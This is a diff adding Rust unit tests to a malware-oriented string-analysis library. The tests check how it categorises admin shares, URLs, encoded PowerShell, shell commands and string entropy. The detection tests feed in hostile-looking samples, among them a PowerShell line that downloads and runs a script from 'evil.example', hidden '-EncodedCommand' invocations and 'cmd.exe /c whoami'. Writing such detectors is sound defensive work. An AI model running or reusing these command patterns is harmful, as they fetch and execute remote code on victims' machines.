@@ -1,4 +1,7 @@
-use threatflux_string_analysis::{StringContext, StringFilter, StringTracker};
+use threatflux_string_analysis::{
+    Categorizer, CategoryRule, DefaultCategorizer, DefaultStringAnalyzer, StringCategory,
+    StringContext, StringFilter, StringTracker,
+};
 
 #[test]
 fn test_basic_functionality() {
@@ -99,3 +102,595 @@ fn test_categorization() {
         );
     }
 }
+
+#[test]
+fn test_admin_share_detection() {
+    let tracker = StringTracker::new();
+
+    tracker
+        .track_string(
+            r"\\srv\ADMIN$",
+            "/test/file",
+            "hash123",
+            "test_tool",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+    tracker
+        .track_string(
+            r"\\srv\public",
+            "/test/file",
+            "hash123",
+            "test_tool",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+
+    let admin = tracker.get_string_details(r"\\srv\ADMIN$").unwrap();
+    assert!(admin.is_suspicious);
+    assert!(admin.categories.contains("admin_share"));
+    assert!(admin.categories.contains("unc_path"));
+
+    let public = tracker.get_string_details(r"\\srv\public").unwrap();
+    assert!(!public.is_suspicious);
+    assert!(public.categories.contains("path"));
+    assert!(public.categories.contains("unc_path"));
+    assert!(!public.categories.contains("admin_share"));
+}
+
+#[test]
+fn test_url_domain_and_protocol_from_results() {
+    // Also treat bare "www." hosts as URLs, which have no protocol to split off
+    let mut categorizer = DefaultCategorizer::new();
+    categorizer
+        .add_rule(CategoryRule {
+            name: "www_rule".to_string(),
+            matcher: Box::new(|s| s.starts_with("www.")),
+            category: StringCategory {
+                name: "url".to_string(),
+                parent: Some("network".to_string()),
+                description: "Bare web host".to_string(),
+            },
+            priority: 100,
+        })
+        .unwrap();
+    let tracker = StringTracker::with_components(
+        Box::new(DefaultStringAnalyzer::new()),
+        Box::new(categorizer),
+    );
+
+    let strings = vec![
+        "https://sub.evil.com/a?b=c".to_string(),
+        "www.evil.com".to_string(),
+    ];
+    tracker
+        .track_strings_from_results(&strings, "/test/file", "hash123", "test_tool")
+        .unwrap();
+
+    let details = tracker.get_string_details(&strings[0]).unwrap();
+    assert!(details.categories.contains("domain:evil.com"));
+    match &details.occurrences[0].context {
+        StringContext::Url { protocol } => assert_eq!(protocol.as_deref(), Some("https")),
+        other => panic!("unexpected context {:?}", other),
+    }
+
+    let bare = tracker.get_string_details(&strings[1]).unwrap();
+    assert!(bare.categories.contains("domain:evil.com"));
+    match &bare.occurrences[0].context {
+        StringContext::Url { protocol } => assert_eq!(*protocol, None),
+        other => panic!("unexpected context {:?}", other),
+    }
+}
+
+#[test]
+fn test_category_severity_in_statistics() {
+    let tracker = StringTracker::new();
+
+    for i in 0..20 {
+        tracker
+            .track_string(
+                &format!("routine status line {}", i),
+                "/logs/app.log",
+                "log_hash",
+                "log_tool",
+                StringContext::Other {
+                    category: "benign_log".to_string(),
+                },
+            )
+            .unwrap();
+    }
+    tracker
+        .track_string(
+            "powershell -enc SQBFAFgA",
+            "/samples/dropper.exe",
+            "dropper_hash",
+            "scanner",
+            StringContext::Other {
+                category: "malware".to_string(),
+            },
+        )
+        .unwrap();
+
+    let stats = tracker.get_statistics(None);
+    assert_eq!(stats.category_distribution["benign_log"], 20);
+    assert_eq!(stats.category_distribution["malware"], 1);
+
+    let malware_score = tracker
+        .get_string_details("powershell -enc SQBFAFgA")
+        .unwrap()
+        .suspicion_score;
+    assert!(malware_score > 0);
+    assert_eq!(stats.category_severity["benign_log"], 0);
+    assert_eq!(stats.category_severity["malware"], malware_score);
+    assert_eq!(
+        stats.category_severity.keys().len(),
+        stats.category_distribution.keys().len()
+    );
+}
+
+#[test]
+fn test_custom_entropy_estimator() {
+    use threatflux_string_analysis::EntropyEstimator;
+
+    struct ConstantEstimator;
+
+    impl EntropyEstimator for ConstantEstimator {
+        fn estimate(&self, _value: &str) -> f64 {
+            7.25
+        }
+    }
+
+    let analyzer = DefaultStringAnalyzer::new()
+        .with_entropy_estimator(Box::new(ConstantEstimator))
+        .with_entropy_threshold(7.0);
+    let tracker =
+        StringTracker::with_components(Box::new(analyzer), Box::new(DefaultCategorizer::new()));
+
+    tracker
+        .track_string(
+            "aaaaaaaaaaaaaaaa",
+            "/test/estimator",
+            "estimator_hash",
+            "estimator_tool",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+
+    let details = tracker.get_string_details("aaaaaaaaaaaaaaaa").unwrap();
+    assert_eq!(details.entropy, 7.25);
+    // The estimate drives the high entropy indicator too
+    assert!(details.is_suspicious);
+    // Byte entropy is unaffected by the estimator
+    assert_eq!(details.byte_entropy, 0.0);
+}
+
+#[test]
+fn test_entry_stores_suspicious_indicators() {
+    let tracker = StringTracker::new();
+
+    tracker
+        .track_string(
+            "cmd.exe /c whoami",
+            "/test/indicators",
+            "indicators_hash",
+            "indicators_tool",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+    tracker
+        .track_string(
+            "benign words",
+            "/test/indicators",
+            "indicators_hash",
+            "indicators_tool",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+
+    let details = tracker.get_string_details("cmd.exe /c whoami").unwrap();
+    let command = details
+        .suspicious_indicators
+        .iter()
+        .find(|i| i.pattern_name == "shell_command")
+        .expect("command indicator stored on the entry");
+    assert_eq!(command.severity, 6);
+    assert_eq!(command.matched_text.as_deref(), Some("cmd.exe"));
+    assert_eq!(
+        details.suspicion_score,
+        details
+            .suspicious_indicators
+            .iter()
+            .map(|i| i.severity as u32)
+            .sum::<u32>()
+    );
+
+    let benign = tracker.get_string_details("benign words").unwrap();
+    assert!(benign.suspicious_indicators.is_empty());
+}
+
+#[test]
+fn test_category_filter_globs() {
+    let tracker = StringTracker::new();
+
+    for value in ["привет мир", "你好世界", "hello world"] {
+        tracker
+            .track_string(
+                value,
+                "/test/glob",
+                "glob_hash",
+                "glob_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    }
+
+    let matching = |patterns: &[&str]| {
+        let filter = StringFilter {
+            categories: Some(patterns.iter().map(|p| p.to_string()).collect()),
+            ..Default::default()
+        };
+        let mut values: Vec<_> = tracker
+            .get_statistics(Some(&filter))
+            .most_common
+            .into_iter()
+            .map(|(value, _)| value)
+            .collect();
+        values.sort();
+        values
+    };
+
+    assert_eq!(matching(&["script:*"]), vec!["привет мир", "你好世界"]);
+    assert!(matching(&["domain:*"]).is_empty());
+    assert_eq!(matching(&["*:cjk"]), vec!["你好世界"]);
+    assert_eq!(matching(&["s*pt:*ril*"]), vec!["привет мир"]);
+    assert_eq!(matching(&["*"]).len(), 3);
+
+    // Entries without wildcards still require an exact name
+    assert!(matching(&["script:"]).is_empty());
+    assert_eq!(matching(&["script:cyrillic"]), vec!["привет мир"]);
+    assert_eq!(matching(&["domain:*", "script:cjk"]), vec!["你好世界"]);
+}
+
+#[test]
+fn test_poisoned_lock_returns_error() {
+    use threatflux_string_analysis::{
+        Pattern, StringAnalysis, StringAnalysisError, StringAnalyzer,
+    };
+
+    /// Analyzer that panics on a trigger value, poisoning the tracker's lock
+    struct PanickingAnalyzer(DefaultStringAnalyzer);
+
+    impl StringAnalyzer for PanickingAnalyzer {
+        fn analyze(&self, value: &str) -> StringAnalysis {
+            if value == "explode" {
+                panic!("analyzer failure");
+            }
+            self.0.analyze(value)
+        }
+
+        fn calculate_entropy(&self, value: &str) -> f64 {
+            self.0.calculate_entropy(value)
+        }
+
+        fn get_patterns(&self) -> &[Pattern] {
+            self.0.get_patterns()
+        }
+
+        fn add_pattern(&mut self, pattern: Pattern) -> anyhow::Result<()> {
+            self.0.add_pattern(pattern)
+        }
+    }
+
+    let tracker = StringTracker::with_components(
+        Box::new(PanickingAnalyzer(DefaultStringAnalyzer::new())),
+        Box::new(DefaultCategorizer::new()),
+    );
+    let track = |value: &str| {
+        tracker.track_string(
+            value,
+            "/test/poison",
+            "poison_hash",
+            "poison_tool",
+            StringContext::FileString { offset: None },
+        )
+    };
+    track("before_panic").unwrap();
+
+    std::thread::scope(|scope| {
+        let handle = scope.spawn(|| track("explode"));
+        assert!(handle.join().is_err());
+    });
+
+    assert!(matches!(
+        track("after_panic"),
+        Err(StringAnalysisError::LockPoisoned)
+    ));
+    assert!(matches!(
+        tracker.try_get_statistics(None),
+        Err(StringAnalysisError::LockPoisoned)
+    ));
+    assert!(matches!(
+        tracker.export_csv(Vec::new(), None),
+        Err(StringAnalysisError::LockPoisoned)
+    ));
+
+    // Infallible queries still see the entries tracked before the panic
+    assert!(tracker.get_string_details("before_panic").is_some());
+    assert!(tracker.get_string_details("explode").is_none());
+    assert_eq!(tracker.get_statistics(None).total_unique_strings, 1);
+}
+
+#[test]
+fn test_category_severity_overrides() {
+    use std::collections::HashMap;
+
+    let track = |tracker: &StringTracker, value: &str, category: &str| {
+        tracker
+            .track_string(
+                value,
+                "/test/overrides",
+                "overrides_hash",
+                "overrides_tool",
+                StringContext::Other {
+                    category: category.to_string(),
+                },
+            )
+            .unwrap();
+        tracker.get_string_details(value).unwrap()
+    };
+
+    let baseline = StringTracker::new();
+    let plain = track(&baseline, "deploy helper", "admin_tooling");
+    assert!(!plain.is_suspicious);
+    assert_eq!(plain.suspicion_score, 0);
+
+    let tuned = StringTracker::new().with_category_severity_overrides(HashMap::from([
+        ("admin_tooling".to_string(), 9),
+        ("low_priority".to_string(), 2),
+    ]));
+
+    // The context category is overridden to high severity
+    let flagged = track(&tuned, "deploy helper", "admin_tooling");
+    assert!(flagged.is_suspicious);
+    assert_eq!(flagged.suspicion_score, 9);
+    assert!(tuned
+        .get_statistics(None)
+        .suspicious_strings
+        .contains(&"deploy helper".to_string()));
+
+    // Below SUSPICIOUS_OVERRIDE_SEVERITY the score is raised but the string stays benign
+    let low = track(&tuned, "routine helper", "low_priority");
+    assert!(!low.is_suspicious);
+    assert_eq!(low.suspicion_score, 2);
+
+    // Categorizer-assigned categories are overridden too
+    let by_rule = StringTracker::new()
+        .with_category_severity_overrides(HashMap::from([("url".to_string(), 7)]));
+    let url = track(&by_rule, "https://example.org/index.html", "log");
+    assert!(url.categories.contains("url"));
+    assert!(url.is_suspicious);
+    assert!(url.suspicion_score >= 7);
+}
+
+#[test]
+fn test_related_strings_weighted() {
+    use threatflux_string_analysis::{ChainCategorizer, SimilarityWeights};
+
+    // No categorizer rules, so categories come only from the occurrence context
+    let tracker = StringTracker::with_components(
+        Box::new(DefaultStringAnalyzer::new()),
+        Box::new(ChainCategorizer::new(Vec::new())),
+    );
+    let track = |value: &str, file: &str, category: &str| {
+        tracker
+            .track_string(
+                value,
+                file,
+                &format!("{}_hash", file),
+                "related_tool",
+                StringContext::Other {
+                    category: category.to_string(),
+                },
+            )
+            .unwrap();
+    };
+
+    track("aaaaaaaaaaaaaaaaaaaa", "/f1", "alpha");
+    // Same length only
+    track("abcdefghijklmnopqrst", "/f2", "beta");
+    // Same file, category and entropy, but a quarter of the length
+    track("bbbbb", "/f1", "alpha");
+
+    let default = tracker.get_related_strings("aaaaaaaaaaaaaaaaaaaa", 10);
+    assert_eq!(
+        default,
+        tracker.get_related_strings_weighted(
+            "aaaaaaaaaaaaaaaaaaaa",
+            10,
+            &SimilarityWeights::default()
+        )
+    );
+    let names: Vec<_> = default.iter().map(|(v, _)| v.as_str()).collect();
+    assert_eq!(names, vec!["abcdefghijklmnopqrst", "bbbbb"]);
+    assert!((default[1].1 - 3.25 / 4.0).abs() < 1e-9);
+
+    // Ignoring length drops the string that only matched on length
+    let no_length = SimilarityWeights {
+        length: 0.0,
+        ..Default::default()
+    };
+    let weighted = tracker.get_related_strings_weighted("aaaaaaaaaaaaaaaaaaaa", 10, &no_length);
+    assert_eq!(weighted, vec![("bbbbb".to_string(), 1.0)]);
+
+    // Emphasizing shared files still normalizes by the active weights
+    let files_heavy = SimilarityWeights {
+        files: 3.0,
+        ..Default::default()
+    };
+    let heavy = tracker.get_related_strings_weighted("aaaaaaaaaaaaaaaaaaaa", 10, &files_heavy);
+    let (_, files_score) = heavy.iter().find(|(v, _)| v == "bbbbb").unwrap();
+    assert!((files_score - 5.25 / 6.0).abs() < 1e-9);
+
+    // Equal scores are ordered by value
+    track("cccccccccccccccccccc", "/f3", "gamma");
+    let length_only = SimilarityWeights {
+        files: 0.0,
+        categories: 0.0,
+        entropy: 0.0,
+        ..Default::default()
+    };
+    assert_eq!(
+        tracker.get_related_strings_weighted("aaaaaaaaaaaaaaaaaaaa", 10, &length_only),
+        vec![
+            ("abcdefghijklmnopqrst".to_string(), 1.0),
+            ("cccccccccccccccccccc".to_string(), 1.0),
+        ]
+    );
+
+    // Non-finite weights must not panic while sorting
+    let infinite = SimilarityWeights {
+        files: f64::INFINITY,
+        entropy: f64::INFINITY,
+        ..Default::default()
+    };
+    let related = tracker.get_related_strings_weighted("aaaaaaaaaaaaaaaaaaaa", 10, &infinite);
+    assert!(related.iter().all(|(_, score)| !score.is_nan()));
+}
+
+#[test]
+fn test_encoded_powershell_detection() {
+    let tracker = StringTracker::new();
+
+    // Base64 of UTF-16LE "Write-Output hello; Start-Sleep 5"
+    let encoded = "powershell.exe -NoP -W Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8AOwAgAFMAdABhAHIAdAAtAFMAbABlAGUAcAAgADUA";
+    let short_flag = "pwsh -nop -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8AOwAgAFMAdABhAHIAdAAtAFMAbABlAGUAcAAgADUA";
+    let plain_shell = "cmd.exe /c dir";
+    let download =
+        "powershell IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
+
+    tracker
+        .track_strings_from_results(
+            &[
+                encoded.to_string(),
+                short_flag.to_string(),
+                plain_shell.to_string(),
+                download.to_string(),
+            ],
+            "/samples/loader.bin",
+            "loader_hash",
+            "scanner",
+        )
+        .unwrap();
+
+    let command_type =
+        |value: &str| match &tracker.get_string_details(value).unwrap().occurrences[0].context {
+            StringContext::Command { command_type } => command_type.clone(),
+            other => panic!("unexpected context {:?}", other),
+        };
+
+    assert_eq!(command_type(encoded), "powershell");
+    // `pwsh` alone is not categorized as a command, so only its payload is recognized
+    assert_eq!(
+        tracker.get_string_details(short_flag).unwrap().occurrences[0].context,
+        StringContext::FileString { offset: None }
+    );
+    assert_eq!(command_type(download), "powershell");
+    assert_eq!(command_type(plain_shell), "shell");
+
+    // Both encoded invocations decode to the same payload
+    let decoded = tracker
+        .get_string_details("Write-Output hello; Start-Sleep 5")
+        .expect("decoded command is tracked");
+    assert_eq!(decoded.total_occurrences, 2);
+    assert!(decoded.occurrences.iter().all(|o| matches!(
+        &o.context,
+        StringContext::Command { command_type } if command_type == "powershell_decoded"
+    )));
+    assert!(decoded.categories.contains("command"));
+
+    // Only the two commands above were decoded
+    assert_eq!(tracker.get_statistics(None).total_unique_strings, 5);
+}
+
+#[test]
+fn test_powershell_markers_in_urls_and_paths() {
+    let tracker = StringTracker::new();
+    let url = "https://cdn.example.com/iex/app.js";
+    let key_path = "/enc/keys/server.pem";
+    let switch_path = "/nop";
+    let docs_url = "https://learn.microsoft.com/en-us/powershell/scripting/overview";
+    let binary_path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+
+    tracker
+        .track_strings_from_results(
+            &[
+                url.to_string(),
+                key_path.to_string(),
+                switch_path.to_string(),
+                docs_url.to_string(),
+                binary_path.to_string(),
+            ],
+            "/samples/site.tar",
+            "site_hash",
+            "scanner",
+        )
+        .unwrap();
+
+    let context = |value: &str| {
+        tracker.get_string_details(value).unwrap().occurrences[0]
+            .context
+            .clone()
+    };
+
+    assert_eq!(
+        context(url),
+        StringContext::Url {
+            protocol: Some("https".to_string())
+        }
+    );
+    assert!(matches!(context(key_path), StringContext::Path { .. }));
+    assert!(matches!(context(switch_path), StringContext::Path { .. }));
+
+    // Naming PowerShell does not turn URLs or paths into commands
+    assert_eq!(
+        context(docs_url),
+        StringContext::Url {
+            protocol: Some("https".to_string())
+        }
+    );
+    assert_eq!(
+        context(binary_path),
+        StringContext::Path {
+            path_type: "system".to_string()
+        }
+    );
+}
+
+#[test]
+fn test_multibyte_entropy_regression() {
+    let tracker = StringTracker::new();
+    let value = "日本語日本語";
+    tracker
+        .track_string(
+            value,
+            "/samples/strings.txt",
+            "jp_hash",
+            "scanner",
+            StringContext::FileString { offset: None },
+        )
+        .unwrap();
+
+    let entry = tracker.get_string_details(value).unwrap();
+
+    // `entropy` counts characters: three distinct, equally frequent
+    assert!((entry.entropy - 3f64.log2()).abs() < 1e-9);
+
+    // `byte_entropy` counts UTF-8 bytes: per repetition, 0xE6 occurs twice and seven
+    // other bytes once each
+    let expected_bytes = -(2.0 / 9.0) * (2.0f64 / 9.0).log2() - 7.0 / 9.0 * (1.0f64 / 9.0).log2();
+    assert!((entry.byte_entropy - expected_bytes).abs() < 1e-9);
+    assert!(!entry
+        .suspicious_indicators
+        .iter()
+        .any(|i| i.pattern_name == "high_entropy"));
+}